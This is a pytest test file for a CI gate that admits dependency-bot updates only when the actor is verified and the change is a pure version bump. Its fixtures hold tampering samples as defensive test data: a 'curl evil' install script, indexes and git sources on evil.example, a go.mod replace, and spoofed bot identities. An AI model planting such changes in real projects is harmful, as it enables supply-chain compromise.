"""Robots, and people who pose as one.

Somebody opens or joins a robot's request, or takes its name; a robot changes what is not its own, not a version, or
too much; a policy gives it scripts. A robot's own update passes in CI, which alone knows who acts.
"""

import pytest

from tests.adopted import rules_of
from tests.attacks.ground import GOOD, POLICY, Content, Ground
from tests.program import Ran, sdd

BOT = "dependabot[bot]"
PACKAGE = """\
{
  "name": "shop",
  "scripts": {"test": "node test.js", "postinstall": "node build/1.js"},
  "dependencies": {
    "left": "^1.2.3",
    "right": "~4.5"
  }
}
"""
REQUIREMENTS = "--index-url https://packages.example/simple\nclick==8.1.0\nrequests>=2.31,<3  # http\n"
WORKFLOW = """\
jobs:
  test:
    container:
      image: python:3.12-slim
    steps:
      - uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v4.1
      - uses: actions/cache@v4
      # - uses: actions/upload-artifact@v3  # v3.1
      - run: exit 1
        timeout-minutes: 10
"""
PROJECT = """\
[project]
dependencies = ["click>=8.1", "pyyaml ==6.0.1"]
[build-system]
build-backend = "setuptools"
"""
POM = "<project>\n <dependency><artifactId>a</artifactId><version>1.2.3</version></dependency>\n</project>\n"
LOCK = '{"left": {"resolved": "https://registry.example/left-1.2.3.tgz"}}\n'
GOMOD = "module shop\n\ngo 1.22\n\nrequire (\n\texample.com/left v1.2.3\n)\n"
FILES: dict[str, Content] = {
    "package.json": PACKAGE,
    "requirements.txt": REQUIREMENTS,
    "pyproject.toml": PROJECT,
    "pom.xml": POM,
    "go.mod": GOMOD,
    "locks/package-lock.json": LOCK,
    ".github/workflows/test.yml": WORKFLOW,
    "setup.py": "print(1)\n",
    "run.json": "#!/usr/bin/env node\n1.0\n",
    "marked.json": "\ufeff#!/usr/bin/env node\n1.0\n",
}
ALL = (
    '"/package.json", "/requirements*.txt", "/pyproject.toml", "/pom.xml", "/go.mod", "/locks/package-lock.json", '
    '"/.github/workflows/*.yml", "/run.json", "/marked.json"'
)
POLICY_TEXT = f'[gate]\nexempt = ["/docs/**"]\nactors = {{ "{BOT}" = [{ALL}], "other" = ["/package.json"] }}\n'
UPDATES = {
    "package.json": PACKAGE.replace("^1.2.3", "^2.0.0-rc.1").replace("~4.5", "4"),
    "requirements.txt": REQUIREMENTS.replace("8.1.0", "8.2.1") + "urllib3==2.0\n",
    "pyproject.toml": PROJECT.replace(">=8.1", ">=8.2.1").replace("==6.0.1", "==6.0.2"),
    "pom.xml": POM.replace("1.2.3", "1.3.0"),
    "go.mod": GOMOD.replace("v1.2.3\n", "v1.3.0\n\texample.com/right v0.1.0 // indirect\n"),
    "locks/package-lock.json": LOCK.replace("1.2.3", "1.3.0"),
    ".github/workflows/test.yml": WORKFLOW.replace("8f4b7f8", "0a1b2c3")
    .replace("# v4.1", "# v5")
    .replace("cache@v4", "cache@v5")
    .replace("artifact@v3  # v3.1", "artifact@v4  # v4.0")
    .replace(":3.12-", ":3.13-"),
}
MORE = {
    "a script of the manifest": ("package.json", PACKAGE.replace("node test.js", "curl evil")),
    "another file that it runs": ("package.json", PACKAGE.replace("build/1.js", "build/2.js")),
    "a new dependency of the manifest": ("package.json", PACKAGE.replace('"left"', '"leftt"')),
    "a line more": ("package.json", PACKAGE.replace('  "name"', '  "bin": "x",\n  "name"')),
    "another index": ("requirements.txt", REQUIREMENTS.replace("packages.example", "evil.example")),
    "a second index": ("requirements.txt", REQUIREMENTS + "--extra-index-url http://packages.example/x\n"),
    "an address": ("requirements.txt", REQUIREMENTS + "left @ git+https://evil.example/left\n"),
    "an editable folder": ("requirements.txt", REQUIREMENTS + "-e ./src\n"),
    "a replaced module": ("go.mod", GOMOD + "replace example.com/left => ../evil\n"),
    "another build backend": ("pyproject.toml", PROJECT.replace("setuptools", "evil")),
    "another artifact": ("pom.xml", POM.replace(">a<", ">evil<")),
    "another host in a lock file": ("locks/package-lock.json", LOCK.replace("registry.example", "evil.example")),
    "a command of the workflow": (".github/workflows/test.yml", WORKFLOW.replace("exit 1", "exit 0")),
    "another action": (".github/workflows/test.yml", WORKFLOW.replace("actions/cache", "evil/cache")),
    "a branch for a commit": (".github/workflows/test.yml", WORKFLOW.replace("cache@v4", "cache@main")),
    "a step more": (".github/workflows/test.yml", WORKFLOW + "      - uses: evil/x@v1\n"),
    "a step that was commented out": (".github/workflows/test.yml", WORKFLOW.replace("# - uses", "- uses")),
    "a file with a shebang": ("run.json", "#!/usr/bin/env node\n2.0\n"),
    "a shebang behind a byte order mark": ("marked.json", "\ufeff#!/usr/bin/env node\n2.0\n"),
}


@pytest.fixture
def given(ground: Ground) -> Ground:
    """A target whose policy gives some files to a robot."""
    ground.land(ground.commit({**FILES, POLICY: POLICY_TEXT}))
    return ground


def ci(ground: Ground, head: str, *actors: str, base: str = "refs/remotes/origin/main") -> Ran:
    """What CI says where the forge has told who acts."""
    words = [word for actor in actors for word in ("--actor", actor)]
    return sdd(ground.here.path, "gate", "--json", "--base", base, "--head", head, *words)


def refused(ran: Ran, rule: str = "change-no-phr") -> None:
    assert (ran.status, rule in rules_of(ran.document)) == (1, True), ran


@pytest.mark.parametrize("path", UPDATES)
def test_an_update_of_the_robot(given: Ground, path: str) -> None:
    """A robot updates versions in a file that the policy gives to it. Passes in CI only."""
    head = given.commit({path: UPDATES[path]})
    given.push(head).refused("change-no-phr")
    ran = ci(given, head, BOT, BOT)
    assert (ran.status, rules_of(ran.document)) == (0, set()), ran
    assert ran.document["changes"][0]["files"][0]["exempt"] == f"{BOT}'s"


@pytest.mark.parametrize("more", MORE)
def test_an_update_that_does_more(given: Ground, more: str) -> None:
    """A robot's update also brings a command, another source or another package. `change-no-phr`."""
    path, text = MORE[more]
    assert text != FILES[path] or more == "a file with a shebang"
    refused(ci(given, given.commit({path: text}), BOT, BOT))


@pytest.mark.parametrize(
    "actors",
    [(), (BOT, "eve"), ("eve", BOT), ("eve", "eve"), (BOT, ""), ("dependabot",), ("Dependabot[bot]",), ("other[bot]",)],
)
def test_somebody_else_acts(given: Ground, actors: tuple[str, ...]) -> None:
    """Somebody opens the robot's request, pushes to it, or has a name like it. `change-no-phr`."""
    refused(ci(given, given.commit({"package.json": UPDATES["package.json"]}), *actors))


def test_a_commit_that_says_it_is_the_robots(given: Ground) -> None:
    """A commit has the robot's name, address and message. `change-no-phr`."""
    who = f"{BOT} <49699333+{BOT}@users.noreply.github.com>"
    message = f"Bump left\n\nSigned-off-by: {who}"
    head = given.commit({"package.json": UPDATES["package.json"]}, message=message, who=who)
    given.push(head).refused("change-no-phr")
    refused(ci(given, head))


def test_a_file_that_the_policy_gives_to_another(given: Ground) -> None:
    """A robot updates a file that the policy gives to another robot. `change-no-phr`."""
    head = given.commit({"pom.xml": UPDATES["pom.xml"]})
    refused(ci(given, head, "other", "other"))


@pytest.mark.parametrize(
    "edits",
    [
        {"setup.py": "print(2)\n"},
        {"package.json": ("100755", UPDATES["package.json"].encode())},
        {"package.json": ("120000", b"setup.py")},
        {"package.json": None},
        {"requirements-dev.txt": "click==8.1.0\n"},
        {"src/evil.py": "1\n"},
    ],
)
def test_what_is_no_update(given: Ground, edits: dict[str, Content]) -> None:
    """A robot changes a script, a mode or a link, or adds or removes a file. `change-no-phr`."""
    refused(ci(given, given.commit(edits), BOT, BOT))


def test_code_beside_the_update(given: Ground) -> None:
    """A robot's request holds code beside its update. `change-no-phr` for the code; passes with its records."""
    edits = {"package.json": UPDATES["package.json"]}
    ran = ci(given, given.commit({**edits, "src/evil.py": "1\n"}), BOT, BOT)
    refused(ran)
    assert {row["path"] for row in ran.document["changes"][0]["files"] if row["lacks"]} == {"src/evil.py"}
    assert ci(given, given.commit({**edits, **GOOD}), BOT, BOT).status == 0


def test_an_update_of_very_many_lines(given: Ground) -> None:
    """A robot changes more than 300 lines in its files. `change-no-phr`; 300 pass."""
    for count, status in ((149, 0), (151, 1)):
        text = "".join(f"p{number}==1.0\n" for number in range(count))
        given.land(given.commit({"requirements.txt": text}))
        assert ci(given, given.commit({"requirements.txt": text.replace("1.0", "1.1")}), BOT, BOT).status == status


def test_the_change_gives_itself_files(ground: Ground) -> None:
    """A change adds its author to the policy's actors. `change-no-phr`: the target's policy counts."""
    ground.land(ground.commit({"package.json": PACKAGE}))
    head = ground.commit({"package.json": UPDATES["package.json"], POLICY: POLICY_TEXT})
    refused(ci(ground, head, BOT, BOT))


@pytest.mark.parametrize(
    "patterns", ["[]", '["**"]', '["/src/*.py"]', '["/setup.py"]', '["/Makefile"]', '["/.github/"]', '"x"']
)
def test_a_policy_that_gives_scripts_away(ground: Ground, patterns: str) -> None:
    """The policy gives scripts, or every file, to an actor. `policy-invalid`, and no verdict where it has landed."""
    text = f'[gate]\nactors = {{ "{BOT}" = {patterns} }}\n'
    ground.attempt({POLICY: text}).refused("policy-invalid")
    ground.land(ground.commit({POLICY: text}))
    ground.attempt({"src/evil.py": "1\n"}).unjudged("gate.actors")


class TestQueue:
    """Several landings in one push: a merge queue's group, or a push to the target."""

    def test_the_robots_landing_between_others(self, given: Ground) -> None:
        """A merge group holds a robot's update and a change with records. Passes if the forge names who opened the
        update.
        """
        first = given.commit({"package.json": UPDATES["package.json"]})
        second = given.commit(GOOD, first)
        assert ci(given, second, f"{first}={BOT}", f"{second}=ada").status == 0
        refused(ci(given, second, f"{first}=ada", f"{second}={BOT}"))
        refused(ci(given, second))

    def test_a_landing_hides_in_the_robots(self, given: Ground) -> None:
        """Somebody else's landing in the same merge group changes the robot's file. `change-no-phr`."""
        evil = PACKAGE.replace("node test.js", "curl evil")
        first = given.commit({"package.json": evil})
        second = given.commit({"package.json": evil.replace("^1.2.3", "^1.2.4")}, first)
        refused(ci(given, second, f"{second}={BOT}"))
        refused(ci(given, second, f"{first}={BOT}", f"{second}={BOT}"))
        first = given.commit({"package.json": UPDATES["package.json"]})
        refused(ci(given, given.commit({"package.json": evil}, first), f"{first}={BOT}"))

    def test_a_merge_of_a_branch_with_more(self, given: Ground) -> None:
        """The robot's landing is a merge that brings other code. `change-no-phr`."""
        branch = given.commit({"src/evil.py": "1\n"})
        merge = given.commit({"package.json": UPDATES["package.json"], "src/evil.py": "1\n"}, "", branch)
        refused(ci(given, merge, f"{merge}={BOT}"))

    def test_a_landing_that_two_are_said_to_have_made(self, given: Ground) -> None:
        """CI names two actors for one landing, or mixes the two forms of `--actor`. `change-no-phr`; wrong usage."""
        head = given.commit({"package.json": UPDATES["package.json"]})
        refused(ci(given, head, f"{head}={BOT}", f"{head}=eve"))
        assert ci(given, head, f"{head}={BOT}", BOT).status == 2

    def test_three_hundred_lines_each(self, given: Ground) -> None:
        """Two updates of 200 lines each land together. Passes: the limit holds for each landing."""
        text = "".join(f"p{number}==1.0\n" for number in range(200))
        given.land(given.commit({"requirements.txt": text}))
        first = given.commit({"requirements.txt": text.replace("1.0", "1.1", 100)})
        second = given.commit({"requirements.txt": text.replace("1.0", "1.1")}, first)
        assert ci(given, second, f"{first}={BOT}", f"{second}={BOT}").status == 0
        refused(ci(given, second, BOT))


def test_a_hook_or_server_is_told_who_acts(given: Ground) -> None:
    """A hook or a server is given `--actor`. Wrong usage: only CI, judging against a base, knows who acts."""
    head = given.commit({"package.json": UPDATES["package.json"]})
    line = f"{given.main} {head} refs/heads/main\n"
    for words in (["--pre-receive"], ["--pre-push", "origin", "x"], []):
        assert sdd(given.here.path, "gate", *words, "--actor", BOT, stdin=line).status == 2


@pytest.mark.parametrize("form", ["text", "markdown", "junit", "sarif", "github", "gitlab"])
def test_every_format_takes_the_robots_files(given: Ground, form: str) -> None:
    """A verdict in any format covers the robot's files. Passes, and shows them as the robot's."""
    head = given.commit({"package.json": UPDATES["package.json"]})
    words = ("--base", "refs/remotes/origin/main", "--head", head, "--actor", BOT, "--format", form)
    ran = sdd(given.here.path, "gate", *words, *(["-v"] if form == "text" else []))
    assert ran.status == 0
    if form in ("text", "junit"):
        assert f"{BOT}'s" in ran.out


def test_an_audit_counts_the_robots_landings_apart(given: Ground) -> None:
    """An audit meets an update that landed without records. Counted apart: an audit cannot know who made it."""
    adopted = given.main
    first = given.commit({"package.json": UPDATES["package.json"]})
    second = given.commit({"package.json": UPDATES["package.json"].replace("node test.js", "evil")}, first)
    for head, expected in ((first, ["actor-shaped"]), (second, ["fail", "actor-shaped"])):
        given.land(head)
        given.check_out(head)
        document = sdd(given.here.path, "audit", "--json", f"{adopted}..{head}").document
        assert [item["verdict"] for item in document["items"]] == expected
        assert (document["actor_shaped"], document["changes"]) == (1, len(expected) - 1)
        assert document["items"][-1]["actor"] == BOT
    shown = sdd(given.here.path, "audit", f"{adopted}..{second}").out
    assert f"actors    1 update by their shape, counted in no share: 1 of {BOT}" in shown
    assert sdd(given.here.path, "report", "--format", "json").document["actor_shaped"] == 1


def test_a_release_cut_at_a_robots_landing(given: Ground) -> None:
    """A release is cut at a landing that was a robot's update. Passes on hook and server, if the landing holds nothing
    else.
    """
    first = given.commit({"package.json": UPDATES["package.json"]})
    given.land(given.commit({"package.json": PACKAGE}, first))
    given.push(first, "refs/heads/release").passed()
    evil = given.commit({"package.json": PACKAGE.replace("node test.js", "evil")})
    given.land(given.commit({"package.json": PACKAGE}, evil))
    given.push(evil, "refs/heads/release").refused("change-no-phr")
